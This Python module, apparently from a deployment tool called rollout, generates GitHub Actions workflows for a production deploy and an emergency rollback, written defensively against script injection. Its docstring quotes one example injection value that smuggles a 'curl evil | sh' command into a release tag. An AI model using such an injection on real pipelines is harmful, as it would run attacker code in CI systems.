"""GitHub Actions workflows that run rollout: a production deploy and an emergency rollback.

What the runbook's CI section asks for (`deploy-prod.yml` with a tag, `emergency-rollback.yml`
with an environment and a reason), written the way a careful team writes workflows:

- least privilege: `permissions: contents: read` and nothing else;
- one run per environment at a time (`concurrency`), never cancelling one in progress (a
  deploy stopped halfway is worse than one that waits);
- inputs reach the shell only through environment variables, never pasted into a `run:` script,
  so a tag like `v1"; curl evil | sh; "` stays a string (GitHub's script-injection advice);
- every `${VAR}` the runbook reads comes from the repository's secrets of the same name.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from pathlib import Path

import yaml

from rollout.config import Runbook

_SECRET = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}")


def secret_names(runbook: Runbook) -> list[str]:
    """The ``${VAR}`` names the runbook file reads, in order of first use."""
    text = runbook.source.read_text() if runbook.source.is_file() else ""
    return list(dict.fromkeys(_SECRET.findall(text)))


def workflows(
    runbook: Runbook, *, config: str = "rollout.yml", production: str = "production"
) -> dict[str, str]:
    """File name -> YAML text of each workflow."""
    envs = list(runbook.environments)
    if production not in envs:
        production = envs[-1]
    secrets = {name: f"${{{{ secrets.{name} }}}}" for name in secret_names(runbook)}
    setup = [
        {"uses": "actions/checkout@v4"},
        {"uses": "actions/setup-python@v5", "with": {"python-version": "3.11"}},
        {"name": "Install rollout", "run": "python -m pip install rollout"},
    ]
    deploy = {
        "name": "Deploy to production",
        "on": {
            "workflow_dispatch": {
                "inputs": {
                    "tag": {
                        "description": "Release tag, e.g. v2024.01.15-a1b2c3d",
                        "required": True,
                        "type": "string",
                    }
                }
            }
        },
        "permissions": {"contents": "read"},
        "concurrency": {"group": f"rollout-{production}", "cancel-in-progress": False},
        "jobs": {
            "deploy": {
                "runs-on": "ubuntu-latest",
                "environment": production,
                "timeout-minutes": 90,
                "steps": [
                    *setup,
                    {
                        "name": f"rollout deploy {production}",
                        "env": {
                            "TAG": "${{ inputs.tag }}",
                            "COMMIT": "${{ github.sha }}",
                            **secrets,
                        },
                        "run": f'rollout deploy {production} "$TAG" --commit "$COMMIT" --config {config}',
                    },
                ],
            }
        },
    }
    rollback = {
        "name": "Emergency rollback",
        "on": {
            "workflow_dispatch": {
                "inputs": {
                    "environment": {
                        "description": "Environment to roll back",
                        "required": True,
                        "type": "choice",
                        "options": envs,
                        "default": production,
                    },
                    "reason": {
                        "description": "Why (kept in the record)",
                        "required": True,
                        "type": "string",
                    },
                }
            }
        },
        "permissions": {"contents": "read"},
        "concurrency": {"group": "rollout-${{ inputs.environment }}", "cancel-in-progress": False},
        "jobs": {
            "rollback": {
                "runs-on": "ubuntu-latest",
                "environment": "${{ inputs.environment }}",
                "timeout-minutes": 30,
                "steps": [
                    *setup,
                    {
                        "name": "rollout rollback",
                        "env": {
                            "ENVIRONMENT": "${{ inputs.environment }}",
                            "REASON": "${{ inputs.reason }}",
                            **secrets,
                        },
                        "run": f'rollout rollback "$ENVIRONMENT" --reason "$REASON" --config {config}',
                    },
                ],
            }
        },
    }
    return {"deploy-prod.yml": _dump(deploy), "emergency-rollback.yml": _dump(rollback)}


def _dump(workflow: Mapping[str, object]) -> str:
    return "# Written by `rollout ci github`; edit freely.\n" + yaml.safe_dump(
        workflow, sort_keys=False, default_flow_style=False, width=100
    )


def write_workflows(runbook: Runbook, folder: Path, *, force: bool = False) -> list[Path]:
    """Write the workflows into ``folder``; existing files are kept unless ``force``."""
    from rollout.errors import BadInput

    files = workflows(runbook)
    existing = [folder / name for name in files if (folder / name).exists()]
    if existing and not force:
        raise BadInput(
            f"{existing[0]} exists", hint="pass --force to replace the workflows rollout wrote"
        )
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, text in files.items():
        path = folder / name
        path.write_text(text)
        written.append(path)
    return written
